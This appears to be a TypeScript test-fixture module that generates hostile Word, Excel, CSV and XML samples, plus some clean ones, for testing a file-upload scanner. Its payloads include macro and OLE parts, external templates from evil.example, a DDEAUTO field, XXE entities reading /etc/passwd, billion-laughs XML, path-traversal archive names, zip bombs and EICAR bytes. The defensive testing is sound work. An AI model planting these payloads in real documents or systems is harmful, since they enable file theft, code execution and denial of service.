import { doc, docx, xlsx, zip } from '#api/testing/samples/archives.ts';
import { eicarBytes } from '#tools/services/clamav.ts';
import { CANARY, type Hostile, hostile } from './hostile.ts';

/** Office files, tables and messages with more in them than text. */
export const hostileOffice = ({ full }: { full: boolean }): Hostile[] => [...good(), ...words(full), ...others()];

function words(full: boolean): Hostile[] {
  const rels = (relation: string) =>
    docx([{ name: 'word/_rels/document.xml.rels', data: `<Relationships><Relationship ${relation}/></Relationships>` }]);
  const part = (name: string, data: Buffer | string = 'x') => docx([{ name, data }]);
  const cases: [string, Buffer][] = [
    ['macro', part('word/vbaProject.bin')],
    ['macro in capitals', part('word/VBAPROJECT.BIN')],
    ['macro by content type', docx([{ name: 'customXml/item1.xml', data: 'application/vnd.ms-word.document.macroEnabled.main+xml' }])],
    ['OLE object', part('word/embeddings/oleObject1.bin')],
    ['ActiveX', part('word/activeX/activeX1.xml')],
    ['template from elsewhere', rels('Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"')],
    ['picture from elsewhere', rels("Type='x/image' Target='file://evil/share/a.png' TargetMode='External'")],
    ['frame from elsewhere', rels('TargetMode="External" Type="x/frame" Target="mhtml:https://evil.example"')],
    ['DDE', part('word/comments.xml', '<w:instrText>DDEAUTO cmd</w:instrText>')],
    ['entity', part('word/styles.xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')],
    ['billion laughs', part('word/styles.xml', '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>')],
    ['climbing name', part('../../../etc/cron.d/x')],
    ['absolute name', part('/etc/passwd')],
    ['Windows name', part('C:\\x.exe')],
    ['two names', docx([{ name: 'word/a.xml', localName: 'word/vbaProject.bin', data: 'x' }])],
    ['one name twice', part('word/document.xml')],
    ['locked entry', docx([{ name: 'word/a.xml', data: 'x', flags: 1 }])],
    ['claims 4 GB', docx([{ name: 'word/a.bin', data: Buffer.alloc(1_000), size: 0xfffffffe }])],
    ['3,000 entries', docx(Array.from({ length: 3_000 }, (_, i) => ({ name: `word/${i}.txt`, data: '' })))],
    ['something behind it', Buffer.concat([docx(), Buffer.from('tail')])],
    ['no document', zip([{ name: '[Content_Types].xml', data: '<Types/>' }])],
    ['plain ZIP', zip([{ name: 'a.exe', data: 'MZ' }])],
    ['a program archive', zip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: A' }])],
    ['half', docx().subarray(0, 200)],
    ['EICAR inside', docx([{ name: 'word/media/a.txt', data: eicarBytes() }])],
  ];
  const bombs: [string, Buffer][] = full
    ? [
        ['bomb', docx([{ name: 'word/a.bin', data: Buffer.alloc(50_000_000) }])],
        ['many bombs', docx(Array.from({ length: 4 }, (_, i) => ({ name: `word/${i}.bin`, data: Buffer.alloc(30_000_000, i) })))],
      ]
    : [];
  return [...cases, ...bombs].map(([what, bytes]) => hostile(`Word: ${what}`, 'docx', bytes));
}

const good = (): Hostile[] => [
  hostile('Word file, nothing wrong', 'docx', docx([{ name: 'docProps/core.xml', data: CANARY }]), 'good'),
  hostile('old Word file, nothing wrong', 'doc', doc(), 'good'),
  hostile('Excel file, nothing wrong', 'xlsx', xlsx(), 'good'),
  hostile('table, nothing wrong', 'csv', Buffer.from(`Date,Narration,Amount\n15-11-2026,UPI/${CANARY},201.00\n`), 'good'),
  hostile('message, nothing wrong', 'xml', Buffer.from(`<?xml version="1.0"?><Document><Nm>${CANARY}</Nm></Document>`), 'good'),
];

/** Old Word files, tables and messages. */
function others(): Hostile[] {
  const old = (names: string[]) => doc({ names });
  return [
    ...['Macros', '_VBA_PROJECT', 'VBA', 'ObjectPool', 'EncryptedPackage', '\u0001Ole10Native'].map((name) =>
      hostile(`old Word: ${JSON.stringify(name)}`, 'doc', old([name])),
    ),
    hostile('old Word: locked', 'doc', doc({ flags: 0x0100 })),
    hostile('old Word: no document', 'doc', doc({ withDocument: false })),
    hostile('old Word: half', 'doc', doc().subarray(0, 600)),
    hostile('Excel as Word', 'docx', xlsx()),
    hostile('Word as Excel', 'xlsx', docx()),
    hostile('Excel: macro', 'xlsx', xlsx([{ name: 'xl/vbaProject.bin', data: 'x' }])),
    hostile('Excel: macro sheet', 'xlsx', xlsx([{ name: 'xl/macrosheets/sheet1.xml', data: 'x' }])),
    hostile('Excel: external link', 'xlsx', xlsx([{ name: 'xl/externalLinks/externalLink1.xml', data: 'x' }])),
    hostile('table: a page', 'csv', Buffer.from('<html><script>1</script>')),
    hostile('table: bytes', 'csv', Buffer.from([1, 2, 3, 0, 255])),
    hostile('table: late bytes', 'csv', Buffer.concat([Buffer.alloc(2_000, 'a,b\n'), Buffer.from([0, 1, 2])])),
    hostile('table: EICAR', 'csv', eicarBytes()),
    hostile(
      'message: entity',
      'xml',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><Document>&b;</Document>'),
    ),
    hostile('message: stylesheet', 'xml', Buffer.from('<?xml version="1.0"?><?xml-stylesheet href="//evil.example/a.xsl"?><Document/>')),
    hostile('message: a page', 'xml', Buffer.from('<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>')),
  ];
}
